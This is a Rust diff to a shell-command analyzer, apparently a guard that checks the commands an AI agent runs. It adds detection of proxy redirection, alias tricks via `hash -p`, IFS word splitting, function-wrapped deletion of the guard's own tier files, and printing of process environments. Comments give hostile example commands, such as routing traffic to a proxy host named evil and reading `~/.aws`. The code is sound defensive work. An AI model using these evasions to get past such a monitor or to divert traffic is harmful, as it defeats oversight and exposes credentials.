@@ -6,6 +6,7 @@
 //! a program executes it (`sh -c`, `eval`, `watch`, `find -exec`, `ssh host cmd`, a shell reading
 //! a pipe or here-document), and there it is analyzed recursively.
 
+mod abbreviations;
 mod braces;
 mod code_options;
 mod lexer;
@@ -206,6 +207,8 @@ struct Analyzer {
     text_vars: HashSet<String>,
     /// Variables declared integers (`declare -i n`): what is assigned to them is arithmetic.
     integer_vars: HashSet<String>,
+    /// The line declares an associative array (`declare -A`): `${!a[@]}` may be any text.
+    associative: bool,
     /// The working directory on entering each subshell `( … )` / `$( … )` now open: a `cd`
     /// inside one ends with it, and what it assigns may not outlive it.
     subshells: Vec<Option<String>>,
@@ -303,6 +306,7 @@ impl Analyzer {
         self.unknown_vars.clear();
         self.text_vars.clear();
         self.integer_vars.clear();
+        self.associative = false;
         self.history.clear();
         self.functions.clear();
         self.cwd = None;
@@ -530,11 +534,14 @@ impl Analyzer {
         depth: usize,
     ) {
         if tables::is_proxy_variable(name) {
-            // `https_proxy=http://evil:1 curl https://github.com`: the traffic goes to the proxy.
+            // `https_proxy=http://evil:1 curl https://github.com`: the traffic goes to the proxy;
+            // `PIP_INDEX_URL=…`, `GOPROXY=a,b|c`: the index a tool fetches from.
             if unknown {
                 self.add_unknown_host();
-            } else if !value.is_empty() {
-                self.add_destination(value);
+            } else {
+                for part in value.split([',', '|']).filter(|p| !matches!(*p, "" | "direct" | "off")) {
+                    self.add_destination(part);
+                }
             }
         }
         if tables::PROMPT_VARIABLES.contains(&name) {
@@ -710,6 +717,10 @@ impl Analyzer {
                         case_pattern = false;
                         case_depth = case_depth.saturating_sub(1);
                     }
+                    // `case x in $(cmd)) …`: a pattern is expanded, its substitutions run.
+                    Token::Word(w) => {
+                        let _ = self.substitutions(&w, wrappers, depth);
+                    }
                     _ => {}
                 }
                 continue;
@@ -720,6 +731,9 @@ impl Analyzer {
                         if w.text == "in" && w.first_quoted.is_none() {
                             case_header = false;
                             case_pattern = true;
+                        } else {
+                            // `case $(cmd) in`: the word is expanded, its substitutions run.
+                            let _ = self.substitutions(&w, wrappers, depth);
                         }
                         continue;
                     }
@@ -804,6 +818,7 @@ impl Analyzer {
                                     self.functions.insert(name.text.clone());
                                     tokens.pop_front();
                                 }
+                                self.positional_unknown();
                                 if matches!(tokens.front(), Some(Token::Op(Op::LParen))) {
                                     tokens.pop_front();
                                     if matches!(tokens.front(), Some(Token::Op(Op::RParen))) {
@@ -832,6 +847,7 @@ impl Analyzer {
                             self.functions.insert(current.words[0].text.clone());
                             tokens.pop_front();
                             current = Simple::default();
+                            self.positional_unknown();
                             continue;
                         }
                     }
@@ -988,6 +1004,19 @@ impl Analyzer {
                     let (name, value) = (assignment.name, assignment.value);
                     if tables::PROMPT_VARIABLES.contains(&name) {
                         self.code_in_variable(name, value, w.dynamic, wrappers, depth);
+                    }
+                    if let Some(elements) = value.strip_prefix('(').and_then(|v| v.strip_suffix(')')) {
+                        // `x=(a b)`: `${x[0]}`, `${x[@]}` and `$x` take one of the elements.
+                        if w.dynamic {
+                            self.forget(name);
+                        } else {
+                            let words: Vec<String> = elements
+                                .split_whitespace()
+                                .map(|e| e.trim_matches(|c| c == '"' || c == '\'').to_owned())
+                                .collect();
+                            self.bind_keeping(name.to_owned(), words, assignment.append);
+                        }
+                        continue;
                     }
                     let literal = if !w.dynamic {
                         Some(value.to_owned())
@@ -1242,6 +1271,13 @@ impl Analyzer {
             header.words = Some(words);
             return;
         }
+        // `for i in "${!a[@]}"`: an indexed array's indices are numbers (an associative
+        // array's keys are not: any `declare -A` in the line makes them text).
+        let indices = w.text.starts_with("${!") && (w.text.ends_with("[@]}") || w.text.ends_with("[*]}"));
+        if indices && !self.associative {
+            header.words = None;
+            return;
+        }
         // `for f in ~/.aws/*`: a glob stays a glob; the variable takes one of the paths it
         // names, which the rules match as they match the glob itself.
         for w in brace_expanded(vec![w]) {
@@ -1365,7 +1401,13 @@ impl Analyzer {
         if w.subs.is_empty() {
             // `$X`, `${X}`, `$a$b`: known when every variable was assigned literally earlier.
             if let Some(value) = self.expand_variables(text) {
-                let parts: Vec<String> = value.split_whitespace().map(str::to_owned).collect();
+                // Unquoted, the value is split at the IFS too (`IFS=,; x=rm,f; $x`).
+                let ifs = self.vars.get("IFS").filter(|_| w.first_quoted.is_none());
+                let parts: Vec<String> = value
+                    .split(|c: char| c.is_whitespace() || ifs.is_some_and(|ifs| ifs.contains(c)))
+                    .filter(|p| !p.is_empty())
+                    .map(str::to_owned)
+                    .collect();
                 return if parts.is_empty() { None } else { Some(parts) };
             }
             // `$VIRTUAL_ENV/bin/python`: the directory is unknown, the program is not.
@@ -1539,6 +1581,9 @@ impl Analyzer {
             return Stream::Opaque;
         }
         let program = program_name(first);
+        // `rm --rec`, `tar --remove-f`: long options by their full names.
+        let argv = abbreviations::expanded(&program, &argv).unwrap_or(argv);
+        let first = &argv[0];
         let args = &argv[1..];
         // `git rebase --exec CMD`, `ssh -o ProxyCommand=CMD`, `tar --to-command=CMD`, …
         for code in code_options::code_in_options(&program, args) {
@@ -1629,6 +1674,11 @@ impl Analyzer {
                     && args.iter().any(|a| {
                         plain(a).starts_with('-') && !plain(a).starts_with("--") && plain(a).contains('i')
                     });
+                if args.iter().any(|a| {
+                    plain(a).starts_with('-') && !plain(a).starts_with("--") && plain(a).contains('A')
+                }) {
+                    self.associative = true;
+                }
                 for a in args.iter().filter(|a| !plain(a).starts_with('-')) {
                     if integer {
                         let name = plain(a).split_once('=').map_or(plain(a), |(name, _)| name);
@@ -1676,6 +1726,31 @@ impl Analyzer {
                         self.bind(plain(a).to_owned(), vec![String::new()]);
                     }
                 }
+                return Stream::None;
+            }
+            "hash" => {
+                // `hash -p /bin/rm ls`: `ls` runs /bin/rm from now on, as an alias would.
+                self.record(&argv, &wrappers);
+                let mut it = args.iter().map(|a| plain(a));
+                while let Some(a) = it.next() {
+                    if let Some(path) =
+                        a.strip_prefix("-p").map(|rest| if rest.is_empty() { it.next() } else { Some(rest) })
+                    {
+                        match (path, it.next()) {
+                            (Some(path), Some(name)) if !is_unknown(path) && !is_unknown(name) => {
+                                self.aliases.insert(name.to_owned(), path.to_owned());
+                            }
+                            _ => self.out.dynamic = true,
+                        }
+                    }
+                }
+                return Stream::None;
+            }
+            "fc" if !args.iter().any(|a| plain(a).starts_with("-l")) => {
+                // `fc -s`, `fc -e - N`: runs commands from the shell's history, which the line
+                // may have filled (`history -s CMD`).
+                self.record(&argv, &wrappers);
+                self.out.dynamic = true;
                 return Stream::None;
             }
             "alias" => {
@@ -1737,6 +1812,40 @@ impl Analyzer {
                 self.read_builtin(args, &stdin);
                 return Stream::None;
             }
+            "set" => {
+                // `set -- A B` / `set A B`: the positional parameters are A, B.
+                self.record(&argv, &wrappers);
+                let mut operands: Option<Vec<String>> = None;
+                let mut i = 0;
+                while let Some(a) = args.get(i) {
+                    let word = plain(a);
+                    if word == "--" {
+                        operands = Some(args[i + 1..].to_vec());
+                        break;
+                    }
+                    // `-o NAME`, `-euo NAME`: the option name is the next word.
+                    if (word.starts_with('-') || word.starts_with('+'))
+                        && word.len() > 1
+                        && word.ends_with('o')
+                    {
+                        i += 2;
+                        continue;
+                    }
+                    if (word.starts_with('-') || word.starts_with('+')) && !is_unknown(a) {
+                        i += 1;
+                        continue;
+                    }
+                    operands = Some(args[i..].to_vec());
+                    break;
+                }
+                if let Some(operands) = operands {
+                    let mut positional =
+                        vec![self.vars.get("0").cloned().unwrap_or_else(|| "bash".to_owned())];
+                    positional.extend(operands);
+                    self.set_positional(&positional);
+                }
+                return Stream::None;
+            }
             "shift" => {
                 self.record(&argv, &wrappers);
                 self.shift_positional(args.first().map(String::as_str));
@@ -1745,8 +1854,15 @@ impl Analyzer {
             _ if self.functions.contains(&program) => {
                 // A function of this line: its body was analyzed where it was defined, without
                 // this call's input or order; any value a variable took in the line may be its
-                // value now, and input given to it is read by code analyzed without it.
+                // value now, and input given to it is read by code analyzed without it. Its
+                // arguments may be any file it touches (`f() { rm "$@"; }; f .ward-tier-x`).
                 self.record(&argv, &wrappers);
+                for a in
+                    args.iter().filter(|a| !plain(a).starts_with('-') && tables::looks_like_path(plain(a)))
+                {
+                    self.add_path(a, Access::Read);
+                    self.add_path(a, Access::Write);
+                }
                 if stdin != Stream::None {
                     self.out.dynamic = true;
                 }
@@ -1888,6 +2004,58 @@ impl Analyzer {
                 }
             }
         }
+        // `git apply <<'EOF'`, `patch -p1 <<'EOF'`: the files a diff given on stdin changes.
+        let applies_diff = program == "patch"
+            || (program == "git" && matches!(plain_subcommand(args), Some("apply" | "am")));
+        if applies_diff {
+            if let Stream::Literal(text) | Stream::Unexpanded(text) = &stdin {
+                for path in tables::diff_paths(text) {
+                    self.add_path(&path, Access::Write);
+                    self.add_path(&path, Access::Delete);
+                }
+            }
+        }
+        if program == "ps" {
+            // BSD-style `e` (in any cluster of option letters without a dash: `ps aux e`,
+            // `ps -ef e`, `ps eww`) prints each process's environment: recorded as `ps e`,
+            // the form the credential-printer rules name.
+            let mut environment = false;
+            let mut words = args.iter().map(|a| plain(a));
+            while let Some(a) = words.next() {
+                let bsd = !a.starts_with('-') && !a.is_empty() && a.chars().all(|c| c.is_ascii_alphabetic());
+                environment |= bsd && a.contains('e');
+                // An option's value (`-o user`, `o user`, `--sort time`) is no option letters.
+                let takes_value = matches!(
+                    a,
+                    "-o" | "-O"
+                        | "-p"
+                        | "-u"
+                        | "-U"
+                        | "-g"
+                        | "-G"
+                        | "-t"
+                        | "-C"
+                        | "-q"
+                        | "-s"
+                        | "-k"
+                        | "--sort"
+                        | "--format"
+                        | "--pid"
+                        | "--ppid"
+                        | "--user"
+                        | "--group"
+                        | "--cols"
+                        | "--columns"
+                        | "--rows"
+                ) || (bsd && a.ends_with(['o', 'O', 'p', 'U', 't', 'k']));
+                if takes_value {
+                    words.next();
+                }
+            }
+            if environment {
+                self.record(&["ps".to_owned(), "e".to_owned()], &wrappers);
+            }
+        }
         if program == "git" && plain_subcommand(args) == Some("config") {
             // git reads section and key names in any case (`Remote.origin.Url`, `core.FSMonitor`):
             // the call is also recorded with them in lower case, as the rules spell them. A
@@ -1899,6 +2067,14 @@ impl Analyzer {
             // `git config [--global] core.editor 'CMD'`: the next git command runs CMD; it is
             // analyzed now, as `git -c` is.
             if let Some((key, value, unknown)) = tables::git_config_set(args) {
+                if git_proxy_key(&key) {
+                    // `git config http.proxy evil:1`: every later fetch goes there.
+                    if unknown {
+                        self.add_unknown_host();
+                    } else {
+                        self.add_destination(&git_proxy_destination(&key, &value));
+                    }
+                }
                 let mut inner = wrappers.clone();
                 inner.push(format!("git config {key}"));
                 match tables::git_config_runs(&key, &value) {
@@ -1913,16 +2089,19 @@ impl Analyzer {
         if program == "git" {
             // `git -c core.sshCommand='…' fetch`, `git -c alias.x='!…' x`: configuration given
             // on the command line that runs commands.
-            for (key, value, unknown) in tables::git_command_line_config(args) {
+            // `git clone -c k=v` / `--config k=v` sets configuration for the clone's own fetch.
+            let mut configs = tables::git_command_line_config(args);
+            if plain_subcommand(args) == Some("clone") {
+                configs.extend(tables::git_clone_config(args));
+            }
+            for (key, value, unknown) in configs {
                 let key = key.to_ascii_lowercase();
-                if (key.starts_with("http.") || key.starts_with("https.") || key.starts_with("remote."))
-                    && key.ends_with(".proxy")
-                {
+                if git_proxy_key(&key) {
                     // `git -c http.proxy=http://evil:1 fetch`: git's traffic goes to the proxy.
                     if unknown {
                         self.add_unknown_host();
                     } else if !value.is_empty() {
-                        self.add_destination(&value);
+                        self.add_destination(&git_proxy_destination(&key, &value));
                     }
                 }
                 let mut inner = wrappers.clone();
@@ -2153,6 +2332,14 @@ impl Analyzer {
 
     /// `$0`, `$1`, …, `$@`, `$*`, `$#` of a `sh -c` script from its operands. An operand only
     /// known at run time leaves its parameter (and `$@`) unknown.
+    /// A function's body runs with its callers' arguments: inside it (and, not knowing where
+    /// it ends, for the rest of the line) `$1`, `$@`, … are only known at run time.
+    fn positional_unknown(&mut self) {
+        for name in ["@", "*", "#"].into_iter().map(str::to_owned).chain((1..10).map(|i| i.to_string())) {
+            self.forget(&name);
+        }
+    }
+
     fn set_positional(&mut self, operands: &[String]) {
         for name in ["@", "*", "#"] {
             self.vars.remove(name);
@@ -2163,6 +2350,10 @@ impl Analyzer {
         for (i, op) in operands.iter().enumerate().take(10) {
             if !is_unknown(op) {
                 self.vars.insert(i.to_string(), op.clone());
+                self.text_vars.remove(&i.to_string());
+            } else {
+                // `set -- "$(cat f)"; $(($1))`: text only known at run time.
+                self.text_vars.insert(i.to_string());
             }
         }
         let rest = operands.get(1..).unwrap_or_default();
@@ -2201,6 +2392,24 @@ impl Analyzer {
             }
             self.code_operands(&inv.operands, true);
             return Stream::Opaque;
+        }
+        // `python3 -m pip install …`: pip itself, as its rules see it.
+        if inv.module {
+            let mut words = argv.iter().skip(1).map(|a| plain(a));
+            let mut module = None;
+            while let Some(a) = words.next() {
+                if let Some(m) = a.strip_prefix("-m") {
+                    module = if m.is_empty() { words.next().map(str::to_owned) } else { Some(m.to_owned()) };
+                    break;
+                }
+            }
+            if let Some(tool @ ("pip" | "pip3" | "pipx" | "twine" | "poetry" | "uv")) = module.as_deref() {
+                let mut command = vec![tool.to_owned()];
+                command.extend(inv.operands.iter().cloned());
+                let mut inner = wrappers.clone();
+                inner.push(format!("{program} -m"));
+                let _ = self.exec(command, inner, Stream::None, downloaded_arg, depth + 1);
+            }
         }
         // `python3 -m base64 FILE`: the module's arguments; `python3 tool.py FILE`: the
         // script's, which it may read.
@@ -2280,12 +2489,18 @@ impl Analyzer {
             (
                 kind @ (tools::StdinIs::SqliteCommands
                 | tools::StdinIs::PsqlCommands
-                | tools::StdinIs::MysqlCommands),
+                | tools::StdinIs::MysqlCommands
+                | tools::StdinIs::ExCommands),
                 Stream::Literal(text) | Stream::Unexpanded(text),
             ) => {
                 let mut from_stdin = tools::ToolCode::default();
                 match kind {
                     tools::StdinIs::SqliteCommands => tools::sqlite_text(text, &mut from_stdin),
+                    tools::StdinIs::ExCommands => {
+                        for line in text.lines() {
+                            tools::ex_command(line, &mut from_stdin);
+                        }
+                    }
                     tools::StdinIs::PsqlCommands => tools::psql_text(text, &mut from_stdin),
                     _ => tools::mysql_text(text, &mut from_stdin),
                 }
@@ -2770,8 +2985,20 @@ impl Analyzer {
         for f in &inv.reads {
             self.add_path(f, Access::Read);
         }
+        // `ssh -F FILE`: a configuration's `ProxyCommand`, `LocalCommand`, `KnownHostsCommand`
+        // and `Match exec` run commands on this machine that Ward does not read (the user's
+        // own ~/.ssh/config aside, whose changes are persistence).
+        let parsed = tables::parse_options(argv.get(1..).unwrap_or_default(), tables::SSH_OPTS, true);
+        let config_runs =
+            parsed.values(&["-F"]).map(plain).any(|f| !matches!(f, "/dev/null" | "none" | "~/.ssh/config"));
+        if config_runs {
+            self.out.dynamic = true;
+        }
         if let Some(host) = &inv.host {
             self.add_host(host);
+        }
+        for host in tables::ssh_option_hosts(argv.get(1..).unwrap_or_default()) {
+            self.add_host(&host);
         }
         if !inv.remote.is_empty() {
             // The remote command runs elsewhere: report its commands and hosts, not its paths
@@ -3528,6 +3755,21 @@ fn base64_decode(text: &str) -> Option<String> {
 }
 
 /// Basename of `argv[0]`: `/usr/bin/rm` → `rm`.
+/// git configuration keys that send its traffic elsewhere: a proxy, or curl's resolve list.
+fn git_proxy_key(key: &str) -> bool {
+    (key.starts_with("http.") || key.starts_with("https.") || key.starts_with("remote."))
+        && (key.ends_with(".proxy") || key.ends_with(".curloptresolve"))
+}
+
+/// Where a proxy key's value sends traffic (`http.curloptResolve=H:443:ADDR` → ADDR).
+fn git_proxy_destination(key: &str, value: &str) -> String {
+    if key.ends_with(".curloptresolve") {
+        value.trim_start_matches(['+', '-']).splitn(3, ':').nth(2).unwrap_or(value).to_owned()
+    } else {
+        value.to_owned()
+    }
+}
+
 /// The subscript of an array element assignment (`a[i+1]=x` → `i+1`).
 fn assignment_subscript(w: &Word) -> Option<&str> {
     let detail = w.assignment_detail()?;
@@ -3565,31 +3807,102 @@ fn known_beginning(text: &str) -> &str {
 }
 
 /// Whether a substitution's script prints only a number (`$(wc -l < f)`, `$(seq 5)`,
-/// `$(grep -c x f)`, `$(date +%s)`): its output, evaluated as arithmetic, runs nothing.
-/// Its last command decides; file names it prints are on the line, analyzed already.
+/// `$(grep -c x f)`, `$(date +%s)`, `$(ls | wc -l | tr -d ' ')`): its output, evaluated as
+/// arithmetic, runs nothing. One pipeline (a list prints what each of its commands prints),
+/// whose last stage, past whitespace clean-ups, counts; nothing in it only known at run time.
 fn prints_a_number(script: &str) -> bool {
-    let last = script.rsplit(['|', ';', '\n']).next().unwrap_or_default();
-    let mut words = last.split_whitespace();
-    let Some(program) = words.next().map(program_name) else { return false };
-    let args: Vec<&str> = words.collect();
+    if script.contains([';', '&', '\n', '`']) || script.contains("$(") {
+        return false;
+    }
+    let stages: Vec<&str> = script.split('|').collect();
+    let mut last = stages.len() - 1;
+    while last > 0 && passes_a_number(stages[last]) {
+        last -= 1;
+    }
+    counts(stages[last])
+}
+
+/// The words of a pipeline stage, without its redirections (`wc -l < "$f"` → `wc -l`).
+fn stage_words(stage: &str) -> Vec<&str> {
+    let mut words = Vec::new();
+    let mut it = stage.split_whitespace();
+    while let Some(word) = it.next() {
+        let operator = word.trim_start_matches(|c: char| c.is_ascii_digit());
+        if operator.starts_with(['<', '>']) {
+            if operator.trim_start_matches(['<', '>', '&']).is_empty() {
+                it.next(); // the target is the next word
+            }
+            continue;
+        }
+        words.push(word);
+    }
+    words
+}
+
+/// A stage that prints a number when given one: whitespace removed or the first field taken.
+fn passes_a_number(stage: &str) -> bool {
+    let words = stage_words(stage);
+    match words.split_first() {
+        Some((&"xargs", rest)) => rest.is_empty(),
+        Some((&"tr", rest)) => {
+            rest.first() == Some(&"-d")
+                && rest[1..].iter().all(|set| {
+                    let set = set.trim_matches(|c| c == '\'' || c == '"');
+                    matches!(set, "[:space:]" | "[:blank:]") || set.chars().all(|c| " \\nt".contains(c))
+                })
+        }
+        Some((&"cut", rest)) => rest.iter().any(|a| matches!(*a, "-f1" | "-f" | "1" | "-d" | "--fields=1")),
+        Some((&("head" | "tail"), _)) => true,
+        _ => false,
+    }
+}
+
+/// A stage whose output is a count or another number.
+fn counts(stage: &str) -> bool {
+    let words = stage_words(stage);
+    let Some((program, args)) = words.split_first() else { return false };
+    if args.iter().any(|a| a.contains(['$', '`'])) {
+        return false;
+    }
     // `wc -l *`, `grep -c x *` print file names beside the counts, and a file's name is
     // whatever the agent made it (`a[$(cmd)]`): only names spelled out on the line, or none.
     let names_spelled_out = || {
-        args.iter().all(|a| !a.contains(['*', '?', '[', '$', '`']))
+        args.iter().all(|a| !a.contains(['*', '?', '[']))
             && !args.iter().any(|a| {
                 matches!(*a, "-r" | "-R" | "--recursive" | "-H" | "--with-filename")
                     || a.starts_with("--files0-from")
             })
     };
-    match program.as_str() {
-        "wc" => names_spelled_out(),
-        "expr" | "seq" | "nproc" | "getconf" | "tput" | "bc" => true,
+    let numeric_format = |format: &str| {
+        let format = format.trim_matches(|c| c == '\'' || c == '"');
+        format.split('%').skip(1).all(|spec| {
+            spec.starts_with(['s', 'b', 'B', 'i', 'h', 'u', 'g', 'X', 'Y', 'Z', 'W', 'a', 'd', 'D', 'f', 'o'])
+        }) && format.split('%').next().is_some_and(|lead| lead.trim().is_empty())
+    };
+    match program_name(program).as_str() {
+        "wc" | "du" => names_spelled_out(),
+        "expr" | "seq" | "nproc" | "getconf" | "tput" => {
+            !args.iter().any(|a| a.starts_with("-f") || a.starts_with("--format"))
+        }
         "id" => args.iter().any(|a| matches!(*a, "-u" | "-g" | "-ur" | "-gr")),
         "date" => args.iter().all(|a| !a.starts_with('+') || a.chars().all(|c| "+%sSmMHdjyYNu".contains(c))),
         "grep" | "egrep" | "fgrep" | "rg" => {
             args.iter().any(|a| *a == "-c" || *a == "--count") && names_spelled_out()
         }
         "git" => args.contains(&"--count"),
+        "stat" => args
+            .iter()
+            .position(|a| matches!(*a, "-c" | "--printf" | "--format"))
+            .and_then(|i| args.get(i + 1))
+            .or_else(|| {
+                args.iter().find_map(|a| {
+                    a.strip_prefix("--format=").or_else(|| a.strip_prefix("--printf=")).map(|_| a)
+                })
+            })
+            .is_some_and(|f| {
+                numeric_format(f.trim_start_matches("--format=").trim_start_matches("--printf="))
+            }),
+        "jq" => args.iter().any(|a| a.trim_matches(|c| c == '\'' || c == '"') == "length"),
         _ => false,
     }
 }
@@ -3597,6 +3910,10 @@ fn prints_a_number(script: &str) -> bool {
 /// `$((…))` / `$[…]` (and digits around them): a value that is a number.
 fn is_number_expansion(value: &str) -> bool {
     let v = value.trim();
+    // `${#x}`: a length.
+    if v.starts_with("${#") && v.ends_with('}') && v.matches("${").count() == 1 {
+        return true;
+    }
     (v.starts_with("$((") && v.ends_with("))") && v.matches("$((").count() == 1)
         || (v.starts_with("$[") && v.ends_with(']') && v.matches("$[").count() == 1)
 }
